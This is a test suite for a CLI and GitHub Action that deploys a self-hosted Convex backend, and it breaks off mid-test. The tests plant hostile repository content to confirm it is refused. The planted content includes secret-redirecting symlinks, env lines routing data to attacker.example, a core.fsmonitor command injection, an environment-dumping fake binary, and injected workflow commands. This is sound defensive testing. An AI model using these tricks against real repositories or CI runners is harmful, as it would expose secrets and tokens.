/**
 * Untrusted repository content, interruptions and concurrent runs, through real processes: the
 * action (from source) as the runner runs it, and the CLI, with the fake docker and the stand-in.
 */
import { execFileSync, spawn } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { parse as dotenvParse } from "dotenv";
import { afterEach, describe, expect, it } from "vitest";
import { deriveJwtKeyPair } from "../../src/core/auth-keys.js";
import { baseEnv, cli, ownProject as portFlags, TSX } from "../helpers/day-two-sandbox.js";
import { obeyedCommands } from "../helpers/runner-commands.js";
import { ROOT, type RunResult, Sandbox } from "../helpers/sandbox.js";

const sandboxes: Sandbox[] = [];
afterEach(async () => {
  await Promise.all(sandboxes.splice(0).map((s) => s.dispose()));
});
async function sandbox(options?: Parameters<typeof Sandbox.create>[0]) {
  const s = await Sandbox.create(options);
  sandboxes.push(s);
  return s;
}
const text = (r: RunResult) => `${r.stdout}\n${r.stderr}`;
const SECRET = "ab".repeat(32);

function cliEnv(s: Sandbox, extra: Record<string, string> = {}): Record<string, string> {
  return { ...baseEnv(s), ...extra };
}
function git(cwd: string, ...args: string[]) {
  execFileSync("git", ["-c", "user.email=t@t", "-c", "user.name=t", ...args], { cwd, stdio: "pipe" });
}

describe("links out of the repository are never followed", () => {
  it.each([
    [".env.local", "the admin key would be written there"],
    ["docker-compose.convex.yml", "the compose file would replace it"],
    [".gitignore", "lines would be appended to it"],
    ["jwt_private_key.pem", "an outside key would be reused and pushed"],
    [".env.convex.deployment", "a neighbour's secrets would be sent to this backend"],
  ])("%s linked outside: refused, naming the file and its target (%s)", async (name) => {
    const s = await sandbox();
    const outside = join(s.root, `outside-${name}`);
    const original =
      name === "jwt_private_key.pem"
        ? (await import("node:crypto"))
            .generateKeyPairSync("rsa", { modulusLength: 2048 })
            .privateKey.export({ type: "pkcs8", format: "pem" })
            .toString()
        : "KEEP=1\n";
    writeFileSync(outside, original, { mode: 0o644 });
    symlinkSync(outside, join(s.app, name));
    const run = await s.runAction(s.actionEnv({ cleanup: "false" }));
    expect(run.code, text(run)).toBe(1);
    expect(run.stdout).toContain(
      `::error::${join(s.app, name)} is a link to ${outside}, outside the repository`,
    );
    expect(readFileSync(outside, "utf8")).toBe(original);
    expect(s.dockerCalls().some((c) => c.argv.includes("up"))).toBe(false);
    expect(s.backendRequests(`t${s.ports.api}`)).toEqual([]);
  });

  it.each([
    [".env.local", "public/config.txt", "the admin key would land in a file a build publishes"],
    [".gitignore", ".env.convex.local", "the secret file would be rewritten as .gitignore"],
    [".env.convex.deployment", "../README.md", "a tracked file would get the deployment's variables"],
  ])(
    "%s linked to %s inside the repository: never written through, refused naming the link (%s)",
    async (name, to) => {
      const s = await sandbox();
      // The secret a link may point at: from the instance-secret input, so CI takes it.
      writeFileSync(join(s.app, ".env.convex.local"), `INSTANCE_SECRET=${SECRET}\n`, { mode: 0o600 });
      mkdirSync(join(s.app, "public"));
      writeFileSync(join(s.app, "public/config.txt"), "PUBLIC=1\n", { mode: 0o644 });
      writeFileSync(join(s.workspace, "README.md"), "# readme\n", { mode: 0o644 });
      symlinkSync(to, join(s.app, name));
      const target = join(s.app, to);
      const before = existsSync(target) ? readFileSync(target, "utf8") : undefined;
      const run = await s.runAction(
        s.actionEnv({ cleanup: "false", deploy: "false", "instance-secret": SECRET }),
      );
      expect(run.code, text(run)).toBe(1);
      expect(run.stdout).toMatch(
        new RegExp(
          `::error::${join(s.app, name).replaceAll(".", "\\.")} is a link to .*; refusing to write through it`,
        ),
      );
      expect(lstatSync(join(s.app, name)).isSymbolicLink()).toBe(true);
      if (before !== undefined) expect(readFileSync(target, "utf8")).toBe(before);
      // A secret the link points at keeps its content and its mode.
      if (to === ".env.convex.local") {
        expect(readFileSync(target, "utf8")).toMatch(/^INSTANCE_SECRET=/m);
        expect(statSync(target).mode & 0o777).toBe(0o600);
      }
      expect(s.dockerCalls().some((c) => c.argv.includes("up"))).toBe(false);
    },
  );

  it("a link into .git is never written through", async () => {
    const s = await sandbox();
    git(s.workspace, "init", "-q");
    const config = readFileSync(join(s.workspace, ".git/config"), "utf8");
    symlinkSync("../.git/config", join(s.app, ".env.local"));
    const run = await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false" }));
    expect(run.code, text(run)).toBe(1);
    expect(run.stdout).toMatch(/::error::.*\.env\.local \(.*\.git\/config\) is inside a \.git folder/);
    expect(readFileSync(join(s.workspace, ".git/config"), "utf8")).toBe(config);
  });

  it("a working directory that is a link out of the workspace is refused", async () => {
    const s = await sandbox();
    symlinkSync(s.app, join(s.root, "elsewhere"));
    rmSync(join(s.workspace, "app"), { recursive: true, force: true });
    mkdirSync(join(s.root, "real-app"));
    symlinkSync(join(s.root, "real-app"), join(s.workspace, "linked"));
    const run = await s.runAction(s.actionEnv({ "working-directory": "linked", cleanup: "false" }));
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/::error::.*linked is a link to .*real-app, outside the repository/);
  });
});

describe("committed secrets are never trusted", () => {
  it("in CI a tracked .env.convex.local stops the run, saying the secret is public and how to rotate", async () => {
    const s = await sandbox();
    writeFileSync(
      join(s.app, ".env.convex.local"),
      `INSTANCE_SECRET=${SECRET}\nDOCKER_HOST=tcp://evil:2375\n`,
    );
    git(s.workspace, "init", "-q");
    git(s.workspace, "add", "app/.env.convex.local");
    git(s.workspace, "commit", "-qm", "oops");
    const run = await s.runAction(s.actionEnv({ cleanup: "false" }));
    expect(run.code).toBe(1);
    expect(run.stdout).toContain(
      "::error::Secrets committed to git are public, and are never reused: .env.convex.local (INSTANCE_SECRET).",
    );
    expect(run.stdout).toMatch(/git rm --cached \.env\.convex\.local/);
    expect(run.stdout).not.toContain(SECRET);
    expect(s.dockerCalls().some((c) => c.argv.includes("up"))).toBe(false);
  });

  it("the CLI (not CI) warns and goes on; an untracked secret file is simply reused", async () => {
    const s = await sandbox();
    writeFileSync(join(s.app, "jwt_private_key.pem"), "");
    rmSync(join(s.app, "jwt_private_key.pem"));
    git(s.workspace, "init", "-q");
    writeFileSync(join(s.app, ".env.convex.local"), `INSTANCE_SECRET=${SECRET}\n`);
    git(s.workspace, "add", "app/.env.convex.local");
    git(s.workspace, "commit", "-qm", "oops");
    const run = await cli(s, ["up", ...portFlags(s), "--no-deploy"], { CI: "" });
    expect(run.code, text(run)).toBe(0);
    expect(run.stderr).toMatch(
      /! Secrets committed to git are public, and are never reused: \.env\.convex\.local/,
    );
    const doctor = await cli(s, ["doctor", ...portFlags(s).slice(0, 6)]);
    expect(doctor.code).toBe(1);
    expect(doctor.stdout).toMatch(
      /✗ Secrets committed to git are public, and are never reused: \.env\.convex\.local \(INSTANCE_SECRET\)/,
    );
  });

  it("outside CI a tracked .env.convex.local without a secret is said out loud, naming each line that sends data elsewhere; doctor FAILs", async () => {
    const s = await sandbox();
    git(s.workspace, "init", "-q");
    writeFileSync(
      join(s.app, ".env.convex.local"),
      [
        "RUST_LOG=info",
        "MYSQL_URL=mysql://u:p@attacker.example/db",
        "S3_ENDPOINT_URL=https://attacker.example",
        "AWS_ACCESS_KEY_ID=AKIAEXAMPLE",
        "HTTPS_PROXY=http://attacker.example:3128",
        "",
      ].join("\n"),
    );
    git(s.workspace, "add", "app/.env.convex.local");
    git(s.workspace, "commit", "-qm", "settings");
    const lines =
      "MYSQL_URL (line 2), S3_ENDPOINT_URL (line 3), AWS_ACCESS_KEY_ID (line 4), HTTPS_PROXY (line 5)";
    const run = await cli(s, ["up", ...portFlags(s), "--no-deploy"], { CI: "" });
    expect(run.code, text(run)).toBe(0);
    expect(run.stderr).toContain(
      "! .env.convex.local is committed to git: the backend's settings come from the repository",
    );
    expect(run.stderr).toContain(`Lines that send the backend's data elsewhere: ${lines}.`);
    // MYSQL_URL is the database's, set from mysql-url: without one it is removed, out loud.
    expect(run.stderr).toContain(
      "! Removed MYSQL_URL from .env.convex.local: the backend's database comes from mysql-url",
    );
    const doctor = await cli(s, ["doctor", ...portFlags(s).slice(0, 6)], { CI: "" });
    expect(doctor.code).toBe(1);
    // up put its INSTANCE_SECRET into the tracked file: now it holds a secret, and the other lines.
    expect(doctor.stdout).toMatch(/✗ .*\.env\.convex\.local/);
    expect(doctor.stdout).toContain(
      "Lines that send the backend's data elsewhere: S3_ENDPOINT_URL (line 2), AWS_ACCESS_KEY_ID (line 3), HTTPS_PROXY (line 4).",
    );
  });

  it("compose's own settings in the env file (DOCKER_HOST, HOME) stay in compose's environment", async () => {
    const s = await sandbox();
    // In CI only a file this tool wrote is used: a first run writes it, then a line is added.
    expect((await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false" }))).code).toBe(0);
    const backendEnv = join(s.app, ".env.convex.local");
    writeFileSync(
      backendEnv,
      `${readFileSync(backendEnv, "utf8")}DOCKER_HOST=tcp://evil:2375\nRUST_LOG=info\n`,
    );
    const run = await s.runAction(
      s.actionEnv({ cleanup: "false", deploy: "false" }, { DOCKER_HOST: "unix:///var/run/docker.sock" }),
    );
    expect(run.code, text(run)).toBe(0);
    const up = s.dockerCalls().findLast((c) => c.argv.includes("up")) as unknown as {
      env: { DOCKER_HOST: string | null };
    };
    expect(up.env.DOCKER_HOST).toBe("unix:///var/run/docker.sock");
  });
});

describe("in CI, key material comes from inputs or from this tool's own earlier runs", () => {
  const PEM = () =>
    generateKeyPairSync("rsa", { modulusLength: 2048 })
      .privateKey.export({ type: "pkcs8", format: "pem" })
      .toString();

  it("a working directory linked into a folder git ignores (filled by npm ci) is refused, its keys unread", async () => {
    const s = await sandbox();
    // The pull request commits only a link; `npm ci` fills node_modules/evil-app with keys.
    const evil = join(s.workspace, "node_modules/evil-app");
    mkdirSync(join(evil, "convex"), { recursive: true });
    writeFileSync(join(evil, "package.json"), readFileSync(join(s.app, "package.json")));
    writeFileSync(join(evil, ".env.convex.local"), `INSTANCE_SECRET=${SECRET}\n`);
    writeFileSync(join(evil, "jwt_private_key.pem"), PEM());
    writeFileSync(join(s.workspace, ".gitignore"), "node_modules\n");
    symlinkSync("node_modules/evil-app", join(s.workspace, "web"));
    git(s.workspace, "init", "-q");
    git(s.workspace, "add", ".gitignore", "web");
    git(s.workspace, "commit", "-qm", "a link");
    const run = await s.runAction(
      s.actionEnv({ "working-directory": "web", cleanup: "false", deploy: "false" }),
    );
    expect(run.code, text(run)).toBe(1);
    expect(run.stdout).toMatch(
      /::error::working-directory: .*web resolves to .*node_modules\/evil-app, which git ignores/,
    );
    expect(s.dockerCalls().some((c) => c.argv.includes("up"))).toBe(false);
  });

  it("frontend-directories: one that git ignores is refused too", async () => {
    const s = await sandbox();
    mkdirSync(join(s.workspace, "dist/web"), { recursive: true });
    writeFileSync(
      join(s.workspace, "dist/web/package.json"),
      JSON.stringify({ dependencies: { vite: "1" } }),
    );
    writeFileSync(join(s.workspace, ".gitignore"), "dist/\n");
    git(s.workspace, "init", "-q");
    const run = await s.runAction(
      s.actionEnv({ "frontend-directories": "dist/web", cleanup: "false", deploy: "false" }),
    );
    expect(run.code, text(run)).toBe(1);
    expect(run.stdout).toMatch(/::error::frontend-directories: .*dist\/web is ignored by git/);
  });

  it.each([
    [".env.convex.local", () => `INSTANCE_SECRET=${SECRET}\n`, "INSTANCE_SECRET"],
    [".env.convex.local", () => "MYSQL_URL=mysql://attacker.example/db\n", "the backend's settings"],
    ["jwt_private_key.pem", PEM, "the JWT private key"],
    [
      ".env.local",
      () => `CONVEX_SELF_HOSTED_ADMIN_KEY=app|${"0".repeat(74)}\n`,
      "CONVEX_SELF_HOSTED_ADMIN_KEY",
    ],
  ])(
    "an untracked %s this tool never wrote (%#) is refused, naming the file",
    async (name, content, what) => {
      const s = await sandbox();
      writeFileSync(join(s.app, name), content());
      const run = await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false" }));
      expect(run.code, text(run)).toBe(1);
      expect(run.stdout).toContain(`::error::${join(s.app, name)} holds ${what}`);
      expect(run.stdout).toMatch(/setup-coder-convex did not write it/);
      expect(s.dockerCalls().some((c) => c.argv.includes("up"))).toBe(false);
    },
  );

  it("the same files are reused when this tool wrote them (a rerun), or when they hold the inputs", async () => {
    const s = await sandbox();
    writeFileSync(join(s.app, ".env.convex.local"), `INSTANCE_SECRET=${SECRET}\n`);
    const first = await s.runAction(
      s.actionEnv({ cleanup: "false", deploy: "false", "instance-secret": SECRET }),
    );
    expect(first.code, text(first)).toBe(0);
    const again = await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false" }));
    expect(again.code, text(again)).toBe(0);
    expect(s.summary()).toMatch(/Instance secret \| reused/);
    expect(s.summary()).toMatch(/JWT key \| reused/);
  });
});

describe("git cannot be made to run repository code", () => {
  it("a folder shaped like a bare repository with core.fsmonitor: its command never runs", async () => {
    const s = await sandbox();
    const pwned = join(s.root, "PWNED");
    writeFileSync(join(s.app, "HEAD"), "ref: refs/heads/main\n");
    mkdirSync(join(s.app, "objects"));
    mkdirSync(join(s.app, "refs"));
    writeFileSync(
      join(s.app, "config"),
      `[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch ${pwned}; false"\n`,
    );
    // git on PATH records its arguments, then runs the real git.
    const realGit = execFileSync("sh", ["-c", "command -v git"], { encoding: "utf8" }).trim();
    const gitLog = join(s.root, "git-calls.log");
    writeFileSync(join(s.bin, "git"), `#!/bin/sh\necho "$*" >> "${gitLog}"\nexec "${realGit}" "$@"\n`);
    chmodSync(join(s.bin, "git"), 0o755);
    const run = await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false" }));
    expect(run.code, text(run)).toBe(0);
    expect(existsSync(pwned)).toBe(false);
    // Whether this machine's git would run the command or not, every call is hardened.
    const calls = readFileSync(gitLog, "utf8").trim().split("\n");
    expect(calls.length).toBeGreaterThan(0);
    for (const call of calls) {
      expect(call).toContain(
        "-c safe.bareRepository=explicit -c core.fsmonitor=false -c core.hooksPath=/dev/null",
      );
    }
  });
});

describe("the post step acts only on what main recorded", () => {
  it("main fails before writing files: post leaves a planted compose project alone", async () => {
    const s = await sandbox();
    writeFileSync(join(s.app, "docker-compose.convex.yml"), "name: production-db\nservices: {}\n");
    const env = s.actionEnv({ "api-port": "not-a-port" });
    const main = await s.runAction(env);
    expect(main.code).toBe(1);
    const post = await s.runAction(s.postEnv(env));
    expect(post.code).toBe(0);
    expect(post.stdout).toContain("Nothing to clean up: the main step started no containers.");
    expect(s.dockerCalls()).toEqual([]);
  });
});

describe("down and the post step name the project as up does, and hand docker no file of the checkout", () => {
  const composeCalls = (s: Sandbox) => s.dockerCalls().filter((c) => c.argv[0] === "compose");

  it("command: down without project-name removes convex-<folder>, never the name a committed compose file gives", async () => {
    const s = await sandbox();
    writeFileSync(join(s.app, "docker-compose.convex.yml"), "name: production-db\nservices: {}\n");
    const run = await s.runAction(s.actionEnv({ command: "down", "project-name": "" }));
    expect(run.code, text(run)).toBe(0);
    const calls = composeCalls(s);
    expect(calls.length).toBeGreaterThan(0);
    for (const c of calls) {
      expect(c.argv).not.toContain("production-db");
      expect(c.argv).not.toContain("-f");
    }
    expect(calls.at(-1)?.argv).toEqual([
      "compose",
      "-p",
      "convex-app",
      "down",
      "--remove-orphans",
      "--volumes",
    ]);
  });

  it("command: down after a clean checkout (no compose file, no env files) removes the project and its volume by name", async () => {
    const s = await sandbox();
    const up = await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false", "project-name": "pr-7" }));
    expect(up.code, text(up)).toBe(0);
    expect(existsSync(join(s.dockerState, "projects/pr-7/volume-data"))).toBe(true);
    // actions/checkout on pull_request: closed removes every ignored file.
    for (const f of [
      "docker-compose.convex.yml",
      ".env.convex.local",
      ".env.convex.deployment",
      ".env.local",
      "jwt_private_key.pem",
    ])
      rmSync(join(s.app, f));
    const down = await s.runAction(s.actionEnv({ command: "down", "project-name": "pr-7" }));
    expect(down.code, text(down)).toBe(0);
    expect(composeCalls(s).at(-1)?.argv).toEqual([
      "compose",
      "-p",
      "pr-7",
      "down",
      "--remove-orphans",
      "--volumes",
    ]);
    expect(down.stdout).toContain("Stopped pr-7 and removed its data volume.");
    expect(existsSync(join(s.dockerState, "projects/pr-7/volume-data"))).toBe(false);
    expect(
      await fetch(`http://127.0.0.1:${s.ports.api}/version`).then(
        () => "up",
        () => "down",
      ),
    ).toBe("down");
  });

  it("command: down that matches nothing says so loudly (a warning), naming the project", async () => {
    const s = await sandbox();
    const run = await s.runAction(s.actionEnv({ command: "down", "project-name": "pr-9" }));
    expect(run.code, text(run)).toBe(0);
    expect(run.stdout).toMatch(
      /::warning::Nothing to remove: no container and no volume of compose project pr-9 on this host\./,
    );
  });

  it("the post step removes by name: a compose file changed after main (by a later step) is never read", async () => {
    const s = await sandbox();
    const env = s.actionEnv({ deploy: "false" });
    expect((await s.runAction(env)).code).toBe(0);
    const before = s.dockerCalls().length;
    writeFileSync(
      join(s.app, "docker-compose.convex.yml"),
      "name: production-db\nservices: {}\nvolumes:\n  data:\n    name: production-db-data\n",
    );
    const post = await s.runAction(s.postEnv(env));
    expect(post.code, text(post)).toBe(0);
    const calls = s.dockerCalls().slice(before);
    expect(calls.length).toBeGreaterThan(0);
    for (const c of calls) expect(c.argv).not.toContain("-f");
    expect(calls.at(-1)?.argv).toEqual([
      "compose",
      "-p",
      `t${s.ports.api}`,
      "down",
      "--remove-orphans",
      "--volumes",
    ]);
  });

  it("the CLI's down names the project as up does; a compose file naming another is only mentioned", async () => {
    const s = await sandbox();
    const up = await cli(s, [
      "up",
      ...portFlags(s).slice(0, 6),
      "--project-name",
      "my-preview-7",
      "--no-deploy",
    ]);
    expect(up.code, up.stderr).toBe(0);
    const guess = await cli(s, ["down"]);
    expect(guess.code, guess.stderr).toBe(0);
    expect(guess.stderr).toMatch(
      /! Nothing to remove: no container and no volume of compose project convex-app/,
    );
    expect(guess.stderr).toContain(
      `${join(s.app, "docker-compose.convex.yml")} names project my-preview-7: if that is this app's, give project-name my-preview-7.`,
    );
    expect(existsSync(join(s.dockerState, "projects/my-preview-7/volume-data"))).toBe(true);
    const down = await cli(s, ["down", "--project-name", "my-preview-7", "--volumes"]);
    expect(down.code, down.stderr).toBe(0);
    expect(existsSync(join(s.dockerState, "projects/my-preview-7/volume-data"))).toBe(false);
  });
});

describe("the CLI's read commands read inside the repository only, regular files only", () => {
  const compose = (s: Sandbox) =>
    `name: convex-app\nservices:\n  backend:\n    ports: ["127.0.0.1:${s.ports.api}:3210"]\n`;
  it.each([
    ["status", ".env.local", `CONVEX_SELF_HOSTED_ADMIN_KEY=outside|${"1".repeat(74)}\n`],
    ["verify", ".env.local", `CONVEX_SELF_HOSTED_ADMIN_KEY=outside|${"1".repeat(74)}\n`],
    ["doctor", "jwt_private_key.pem", "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n"],
    ["keys", "jwt_private_key.pem", "-----BEGIN PRIVATE KEY-----\nx\n-----END PRIVATE KEY-----\n"],
    ["env", "docker-compose.convex.yml", "name: elsewhere\nservices: {}\n"],
    ["logs", "docker-compose.convex.yml", "name: elsewhere\nservices: {}\n"],
  ])("%s: %s linked out of the clone is refused, naming it", async (command, name, content) => {
    const s = await sandbox();
    if (name !== "docker-compose.convex.yml")
      writeFileSync(join(s.app, "docker-compose.convex.yml"), compose(s));
    const outside = join(s.root, `outside-${name}`);
    writeFileSync(outside, content);
    symlinkSync(outside, join(s.app, name));
    const run = await cli(s, [command]);
    expect(run.code, text(run)).not.toBe(0);
    expect(text(run)).toContain(
      `${join(s.app, name)} is a link to ${outside}, outside the repository (${s.app}); refusing to read`,
    );
    // Nothing was asked of a backend with a key from outside.
    expect(s.backendRequests("convex-app")).toEqual([]);
  });

  it("doctor on a FIFO: named and refused, never hangs", async () => {
    const s = await sandbox();
    execFileSync("mkfifo", [join(s.app, ".env.convex.local")]);
    const run = await cli(s, ["doctor", "--no-deploy"]);
    expect(run.code).toBe(1);
    expect(text(run)).toContain(
      `${join(s.app, ".env.convex.local")} is a named pipe (FIFO), not a regular file; refusing to read it.`,
    );
  });
});

describe("target connect confirms a Convex backend before sending anything", () => {
  it("a server answering 200 'other app' to everything: stopped naming the URL and what answered; no key, no variable sent", async () => {
    const s = await sandbox({ docker: false });
    const seen: Array<{ method: string; url: string; auth: boolean }> = [];
    const server = createServer((req, res) => {
      seen.push({
        method: req.method ?? "",
        url: req.url ?? "",
        auth: req.headers.authorization !== undefined,
      });
      res.end("other app");
    });
    await new Promise<void>((r) => server.listen(s.ports.api, "127.0.0.1", () => r()));
    try {
      const url = `http://127.0.0.1:${s.ports.api}`;
      const run = await s.runAction(
        s.actionEnv({ target: "connect", "convex-url": url, "site-url": url, "instance-secret": SECRET }),
      );
      expect(run.code, text(run)).toBe(1);
      expect(run.stdout).toContain(
        `::error::${url} is not the Convex backend expected: GET /instance_name answered 200 "other app" (a Convex backend answers its instance name, here "app"). Nothing was sent to it.`,
      );
      expect(seen.filter((r) => r.auth)).toEqual([]);
      expect(seen.filter((r) => r.method !== "GET")).toEqual([]);
    } finally {
      await new Promise((r) => server.close(r));
    }
  });
});

describe("backend settings that widen exposure are off unless asked", () => {
  it("compose: the backend runs with DISABLE_METRICS_ENDPOINT=true; metrics-endpoint: true turns /metrics on", async () => {
    const s = await sandbox();
    const backendEnv = () =>
      JSON.parse(
        readFileSync(join(s.dockerState, "projects", `t${s.ports.api}`, "backend.env.json"), "utf8"),
      );
    const run = await s.runAction(s.actionEnv({ cleanup: "false", deploy: "false" }));
    expect(run.code, text(run)).toBe(0);
    expect(backendEnv().DISABLE_METRICS_ENDPOINT).toBe("true");
    const on = await s.runAction(
      s.actionEnv({ cleanup: "false", deploy: "false", "metrics-endpoint": "true" }),
    );
    expect(on.code, text(on)).toBe(0);
    expect(backendEnv().DISABLE_METRICS_ENDPOINT).toBe("false");
  });

  it("kubernetes: no service account token, a tight securityContext, /metrics off; network-policy adds a policy that down removes", async () => {
    const s = await sandbox({ docker: false, kubectl: true });
    const env = (inputs: Record<string, string>) =>
      s.actionEnv({
        target: "kubernetes",
        namespace: "previews",
        "instance-name": "pr-7",
        "project-name": "",
        deploy: "false",
        verify: "false",
        ...inputs,
      });
    const object = (kind: string, name: string) => {
      const file = join(s.kubeState, "objects/previews", kind, `${name}.json`);
      return existsSync(file) ? JSON.parse(readFileSync(file, "utf8")) : undefined;
    };
    const up = await s.runAction(env({ "network-policy": "true" }));
    expect(up.code, text(up)).toBe(0);
    const pod = object("statefulset", "convex-pr-7").spec.template.spec;
    expect(pod.automountServiceAccountToken).toBe(false);
    expect(pod.containers[0].securityContext).toMatchObject({
      allowPrivilegeEscalation: false,
      capabilities: { drop: ["ALL"] },
      readOnlyRootFilesystem: true,
    });
    expect(pod.containers[0].env).toContainEqual({ name: "DISABLE_METRICS_ENDPOINT", value: "true" });
    expect(object("networkpolicy", "convex-pr-7")?.spec.policyTypes).toEqual(["Ingress", "Egress"]);
    const down = await s.runAction(env({ command: "down", "network-policy": "true" }));
    expect(down.code, text(down)).toBe(0);
    expect(object("networkpolicy", "convex-pr-7")).toBeUndefined();
    expect(object("statefulset", "convex-pr-7")).toBeUndefined();
  });
});

describe("repository code gets no runner internals", () => {
  it("a committed node_modules/.bin/convex sees neither the runner's tokens, a GitHub token, nor the action's inputs (the job's own variables this tool did not read, it does)", async () => {
    const s = await sandbox();
    const dump = join(s.root, "env-dump.json");
    writeFileSync(
      join(s.app, "node_modules/.bin/convex"),
      `#!/bin/sh\nexec "${process.execPath}" -e 'require("fs").writeFileSync(process.argv[1], JSON.stringify(process.env))' "${dump}"\n`,
    );
    chmodSync(join(s.app, "node_modules/.bin/convex"), 0o755);
    const run = await s.runAction(
      s.actionEnv(
        // verify: false: this convex binary deploys nothing, so there are no auth routes to check.
        { cleanup: "false", verify: "false", "instance-secret": SECRET, "postgres-url": "none" },
        {
          ACTIONS_RUNTIME_TOKEN: "runtime-token-value",
          ACTIONS_ID_TOKEN_REQUEST_TOKEN: "oidc-token-value",
          ACTIONS_ID_TOKEN_REQUEST_URL: "https://oidc.example/x",
          ACTIONS_CACHE_URL: "https://cache.example/",
          ACTIONS_RESULTS_URL: "https://results.example/",
          // A workflow's `env: GITHUB_TOKEN: ${{ github.token }}` (for gh) is the job's token too.
          GITHUB_TOKEN: "ghs_job-token-value",
          GH_TOKEN: "ghs_gh-token-value",
          // S3 keys and a database URL for the project's own build: this run reads neither
          // (postgres-url: none, no S3 storage), so they are the project's (core/project.ts).
          AWS_ACCESS_KEY_ID: "AKIAEXAMPLEKEYID",
          AWS_SECRET_ACCESS_KEY: "s3-secret-value",
          DATABASE_URL: "postgres://u:db-password@db.example:5432",
        },
      ),
    );
    expect(run.code, text(run)).toBe(0);
    const seen = JSON.parse(readFileSync(dump, "utf8")) as Record<string, string>;
    for (const name of [
      "ACTIONS_RUNTIME_TOKEN",
      "ACTIONS_ID_TOKEN_REQUEST_TOKEN",
      "ACTIONS_ID_TOKEN_REQUEST_URL",
      "ACTIONS_CACHE_URL",
      "ACTIONS_RESULTS_URL",
      "GITHUB_STATE",
      "GITHUB_OUTPUT",
      "GITHUB_ENV",
      "GITHUB_TOKEN",
      "GH_TOKEN",
    ])
      expect(seen[name], name).toBeUndefined();
    expect(seen.DATABASE_URL).toBe("postgres://u:db-password@db.example:5432");
    expect(seen.AWS_ACCESS_KEY_ID).toBe("AKIAEXAMPLEKEYID");
    expect(Object.keys(seen).filter((k) => k.startsWith("INPUT_"))).toEqual([]);
    expect(JSON.stringify(seen)).not.toContain(SECRET);
    // What it needs to deploy is there.
    expect(seen.CONVEX_SELF_HOSTED_URL).toBe(`http://127.0.0.1:${s.ports.api}`);
    expect(seen.CONVEX_SELF_HOSTED_ADMIN_KEY).toMatch(/^app\|/);
  });
});

describe("the tools this tool runs are never the repository's", () => {
  it("docker, kubectl and git are looked for on PATH without the node_modules/.bin that npx puts first: planted ones never run", async () => {
    const s = await sandbox();
    const ran = join(s.root, "planted-ran");
    const bin = join(s.app, "node_modules/.bin");
    for (const tool of ["docker", "kubectl", "git"]) {
      writeFileSync(join(bin, tool), `#!/bin/sh\necho ${tool} >> "${ran}"\nexit 1\n`);
      chmodSync(join(bin, tool), 0o755);
    }
    // As `npx setup-coder-convex up` runs it: the project's bins first, a relative one too.
    const PATH = `${bin}:node_modules/.bin:${baseEnv(s).PATH}`;
    const up = await cli(s, ["up", ...portFlags(s).slice(0, 6), "--no-deploy"], { PATH });
    expect(up.code, up.stderr).toBe(0);
    expect(existsSync(ran) ? readFileSync(ran, "utf8") : "").toBe("");
  });
});

describe("repository code cannot speak to the runner through the log", () => {
  it("workflow commands printed by a committed node_modules/.bin/convex are shown, never obeyed", async () => {
    const s = await sandbox();
    const lines = [
      '::save-state name=teardown::{"project":"victim","cleanup":true}',
      "  ::set-output name=convex-url::https://evil.example",
      "Deployed ##[set-output name=deployed]false",
      "::stop-commands::attacker",
    ];
    writeFileSync(
      join(s.app, "node_modules/.bin/convex"),
      `#!/bin/sh\nprintf '%s\\n' ${lines.map((l) => `'${l}'`).join(" ")}\nprintf '100%%\\r::save-state name=preview::{}\\n' >&2\n`,
    );
    chmodSync(join(s.app, "node_modules/.bin/convex"), 0o755);
    const run = await s.runAction(
      s.actionEnv({ cleanup: "false", verify: "false", "instance-secret": SECRET }),
    );
    expect(run.code, text(run)).toBe(0);
    for (const line of lines) expect(run.stdout).toContain(line);
    const obeyed = obeyedCommands(run.stdout).map((c) => `${c.name.toLowerCase()} ${c.data}`);
    expect(obeyed.filter((c) => /^(save-state|set-output|stop-commands attacker)/.test(c))).toEqual([]);
    // The action's own commands still count after the fence (its masks and groups).
    expect(obeyed.filter((c) => c.startsWith("add-mask ")).length).toBeGreaterThan(0);
  });
});

describe("the CLI never prints a secret", () => {
  it("a failing deploy whose last line holds the admin key: redacted, and masked inside Actions", async () => {
    const s = await sandbox();
    const run = await cli(s, ["up", ...portFlags(s)], { FAKE_CONVEX_LEAK_KEY: "1", GITHUB_ACTIONS: "true" });
    expect(run.code).toBe(1);
    const key = dotenvParse(readFileSync(join(s.app, ".env.local"), "utf8")).CONVEX_SELF_HOSTED_ADMIN_KEY!;
    expect(key).toMatch(/^app\|/);
    expect(run.stderr).not.toContain(key);
    expect(run.stderr).toMatch(/✗ .*the deployment refused admin key \*\*\*/);
    // Inside GitHub Actions the runner is told too, before anything else could print it.
    expect(run.stdout.split("\n")).toContain(`::add-mask::${key}`);
  });
});

describe("a full or read-only disk", () => {
  const mountTmpfs = (dir: string, size: string): boolean => {
    try {
      execFileSync("mount", ["-t", "tmpfs", "-o", `size=${size}`, "tmpfs", dir], { stdio: "pipe" });
      return true;
    } catch {
      return false;
    }
  };
  const canMount = process.getuid?.() === 0;

  it.skipIf(!canMount)(
    "ENOSPC (a 64 KiB tmpfs, root only): the error names the file and what to do; no temporary file is left",
    async (ctx) => {
      const s = await sandbox();
      const small = join(s.workspace, "small");
      mkdirSync(small);
      if (!mountTmpfs(small, "64k"))
        return ctx.skip("mount -t tmpfs is not permitted here (a container without CAP_SYS_ADMIN)");
      try {
        mkdirSync(join(small, "app"));
        writeFileSync(join(small, "app/package.json"), "{}");
        // Fill the disk: the lock file (empty) may still fit, a file with content does not.
        for (let i = 0; ; i++) {
          try {
            writeFileSync(join(small, `filler-${i}`), Buffer.alloc(4096));
          } catch {
            break;
          }
        }
        const run = await s.runAction(
          s.actionEnv({ "working-directory": "small/app", cleanup: "false", deploy: "false" }),
        );
        expect(run.code).toBe(1);
        expect(run.stdout).toMatch(
          /::error::Could not write .*small\/app\/\S+: the disk is full \(ENOSPC\)\. The file was left as it was\./,
        );
